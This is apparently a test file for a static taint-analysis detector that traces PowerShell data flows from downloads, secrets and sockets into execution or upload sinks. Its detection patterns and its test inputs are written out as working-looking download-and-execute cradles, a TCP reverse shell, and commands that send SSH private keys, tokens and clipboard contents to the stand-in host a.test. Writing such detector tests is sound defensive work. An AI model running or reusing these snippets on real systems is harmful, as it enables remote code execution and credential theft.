import type { TaintProbe } from '@clawback/model'

import { expect, test } from 'vitest'

import { factsOf } from '../testkit.js'

const probe: TaintProbe = {
  kind: 'taint',
  id: 'flow',
  pack: 'test',
  language: 'powershell',
  tags: [],
  sources: [
    { tag: 'remote', pattern: 'invoke-webrequest' },
    { tag: 'remote', pattern: 'invoke-restmethod' },
    { tag: 'remote', pattern: 'start-bitstransfer' },
    { tag: 'remote', pattern: '*.downloadstring' },
    { tag: 'remote', pattern: '*.downloadfile' },
    { tag: 'secret', pattern: 'env.TOKEN' },
    { tag: 'secret', pattern: 'copy-item(*.ssh*id_*)' },
    { tag: 'secret', pattern: 'get-content(*.ssh*id_*)' },
    { tag: 'secret', pattern: 'get-clipboard' },
    { tag: 'remote', pattern: '*.downloaddata' },
    { tag: 'peer', pattern: '*sockets.tcpclient.getstream' },
  ],
  sinks: [
    ...['invoke-expression', '&', 'start-process', 'scriptblock.create', 'invoke-restmethod'],
    ...['*reflection.assembly.load', '*.uploadstring', '*.write'],
  ].map((pattern) => ({ tag: 'sink', pattern })),
  sanitizers: [],
}

async function flowsOf(text: string): Promise<readonly string[]> {
  const facts = await factsOf({ 'a.ps1': text }, [probe])
  return facts.flatMap((fact) =>
    fact.kind === 'code.flow'
      ? [`${String(fact['code.flow.source'])} > ${String(fact['code.flow.sink'])}`]
      : [],
  )
}

test.each([
  ['a pipe', 'iwr "https://a.test/x" | iex', 'invoke-webrequest(https://a.test/x) > invoke-expression'],
  [
    'a variable, an alias, a member of what came',
    '$U = "https://a.test/x"\n$r = irm $u\nIEX ($R).Content',
    'invoke-restmethod(https://a.test/x) > invoke-expression',
  ],
  [
    'a method of an object',
    "(New-Object Net.WebClient).DownloadString('https://a.test/x') | IEX",
    'net.webclient.downloadstring(https://a.test/x) > invoke-expression',
  ],
  [
    'a block made of a text',
    '& ([scriptblock]::Create((irm https://a.test/x)))',
    'invoke-restmethod(https://a.test/x) > &',
  ],
  [
    'a file that was left and started',
    'Start-BitsTransfer -Source https://a.test/x -Destination $env:TEMP\\x.exe\nStart-Process "${env:temp}\\x.exe"',
    'start-bitstransfer(https://a.test/x) > start-process',
  ],
  [
    'a file left by a method',
    '$wc = New-Object Net.WebClient\n$wc.DownloadFile("https://a.test/x", "$HOME\\x.exe")\n& "$env:USERPROFILE\\x.exe"',
    'net.webclient.downloadfile(https://a.test/x) > &',
  ],
  [
    'a table of fields',
    'irm https://a.test/in -Method Post -Body @{ a = 1; b = "t: $env:Token" }',
    'env.TOKEN > invoke-restmethod',
  ],
  [
    'a text handed to another one',
    'powershell -NoP -W Hidden -c "iex (iwr https://a.test/x)"',
    'invoke-webrequest(https://a.test/x) > invoke-expression',
  ],
  [
    'an encoded command',
    `pwsh.exe -enc ${Buffer.from('iwr https://a.test/x | iex', 'utf16le').toString('base64')}`,
    'invoke-webrequest(https://a.test/x) > invoke-expression',
  ],
  [
    'a function, its parameters by name and what it gives',
    'function Get-It {\n  param([string]$From)\n  return irm $From\n}\nfunction Run-It([string]$Text, [switch]$Quiet) {\n  iex $Text\n}\n$t = Get-It -From "https://a.test/x"\nRun-It -Quiet -Text $t',
    'invoke-restmethod(https://a.test/x) > invoke-expression',
  ],
  [
    'each of many',
    'foreach ($u in @("https://a.test/x", "https://a.test/y")) { iex (irm $u) }',
    'invoke-restmethod(https://a.test/y) > invoke-expression',
  ],
  [
    'a block for each that comes',
    '"https://a.test/z" | % { $t = irm $_; iex $t }',
    'invoke-restmethod(https://a.test/z) > invoke-expression',
  ],
  [
    'a folder that is packed',
    'Copy-Item "$HOME\\.ssh\\id_rsa" -Destination "$env:TEMP\\w"\nCompress-Archive -Path "$env:TEMP\\w\\*" -DestinationPath c.zip\nirm https://a.test/in -InFile c.zip',
    'copy-item(~\\.ssh\\id_rsa) > invoke-restmethod',
  ],
  [
    'a connection that is read and answered',
    `$client = New-Object System.Net.Sockets.TCPClient('a.test', 443)
$stream = $client.GetStream()
[byte[]]$bytes = 0..65535 | % { 0 }
while (($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) {
  $data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes, 0, $i)
  $back = (iex $data 2>&1 | Out-String)
  $out = [Text.Encoding]::ASCII.GetBytes($back + 'PS ' + (pwd).Path + '> ')
  $stream.Write($out, 0, $out.Length)
}`,
    'net.sockets.tcpclient.getstream > invoke-expression',
  ],
  [
    'a reader of a connection',
    `$s = [Net.Sockets.TcpClient]::new('a.test', 443).GetStream()
$r = [IO.StreamReader]::new($s)
while ($true) { iex $r.ReadLine() }`,
    'net.sockets.tcpclient.getstream > invoke-expression',
  ],
  [
    'bytes that are written and started',
    `$dir = Join-Path $env:LOCALAPPDATA 'a\\bin'
$exe = Join-Path $dir 'b.exe'
$wc = [Activator]::CreateInstance([type]('Net.Web' + 'Client'))
[IO.File]::WriteAllBytes($exe, $wc.DownloadData('https://a.test/x'))
Start-Process $exe '/quiet' -WindowStyle Hidden -Verb RunAs`,
    'net.webclient.downloaddata(https://a.test/x) > start-process',
  ],
  [
    'an assembly that is loaded',
    "[System.Reflection.Assembly]::Load([byte[]](New-Object Net.WebClient).DownloadData('https://a.test/x'))",
    'net.webclient.downloaddata(https://a.test/x) > system.reflection.assembly.load',
  ],
  [
    'a walk with a test',
    `gci "$HOME\\.ssh" -Recurse | ? { $_.Name -like 'id_*' } | % {
  irm https://a.test/in -Method Post -Body (Get-Content $_.FullName -Raw)
}`,
    'get-content(~\\.ssh\\id_*) > invoke-restmethod',
  ],
  [
    'what is caught and tried again',
    'try { $r = iwr https://a.test/x } catch { $r = irm https://b.test/x } finally { iex $r }',
    'invoke-restmethod(https://b.test/x) > invoke-expression',
  ],
  [
    'what a function puts out, among others',
    'function Get-It { Write-Host a; if ($x) { return "" }; irm https://a.test/x }\n$t = Get-It\niex $t',
    'invoke-restmethod(https://a.test/x) > invoke-expression',
  ],
  [
    'a job and what it is given',
    'Start-Job -ScriptBlock { param($u) iex (irm $u) } -ArgumentList https://a.test/x',
    'invoke-restmethod(https://a.test/x) > invoke-expression',
  ],
  [
    'a list that grows',
    '$all = @()\nforeach ($u in $urls) { $all += Get-Clipboard }\n(New-Object Net.WebClient).UploadString("https://a.test", ($all -join "\\n"))',
    'get-clipboard > net.webclient.uploadstring',
  ],
  [
    'words that are laid out',
    '$p = @{ Uri = "https://a.test"; Method = "Post"; Body = $env:TOKEN }\nInvoke-RestMethod @p',
    'env.TOKEN > invoke-restmethod',
  ],
  [
    'a task with a command that is handed over',
    `Register-ScheduledTask -TaskName t -Action (New-ScheduledTaskAction -Execute powershell.exe -Argument '-w hidden -c "iex (irm https://a.test/x)"')`,
    'invoke-restmethod(https://a.test/x) > invoke-expression',
  ],
])('data is followed through %s', async (_, text, flow) => {
  expect(await flowsOf(text)).toContain(flow)
})

test('what is fetched and kept is not run', async () => {
  expect(
    await flowsOf('iwr https://a.test/x -OutFile x.zip\nExpand-Archive x.zip\nStart-Process b.exe'),
  ).toEqual([])
})

test.each([
  ['another name', '$a = irm https://a.test/x\n$b = "plain text"\niex $b'],
  ['a test of it', '$a = irm https://a.test/x\nif ($a -eq "1") { iex "plain text" }'],
  ['a name of another function', 'function f { $x = irm https://a.test/x }\nf\niex "$x plain"'],
])('what is fetched does not reach %s', async (_, text) => {
  expect(await flowsOf(text)).toEqual([])
})

test('a block that another command is given is looked at by itself', async () => {
  expect(await flowsOf('Start-Job { irm https://a.test/x | iex }')).toEqual([
    'invoke-restmethod(https://a.test/x) > invoke-expression',
  ])
})

test('a shell that starts it hands it code of its own', async () => {
  const facts = await factsOf({ 'a.sh': 'powershell.exe -Command "iwr https://a.test/x | iex"\n' }, [probe])
  expect(facts.filter(({ kind }) => kind === 'code.flow')).toHaveLength(1)
})

test.each([
  ['commands inside commands', `${'iex $('.repeat(60)}iwr https://a.test/x${')'.repeat(60)}`],
  ['modules inside modules', `${'import-module $('.repeat(60)}iwr https://a.test/x${')'.repeat(60)}`],
  ['a long pipe', `iwr https://a.test/x ${'| foo '.repeat(1000)}| iex`],
  ['blocks inside blocks', `${'foo { '.repeat(60)}iex (iwr https://a.test/x)${' }'.repeat(60)}`],
])('the work grows with the text, not with its depth: %s', async (_, text) => {
  const started = performance.now()
  await flowsOf(text)
  expect(performance.now() - started).toBeLessThan(5000)
})
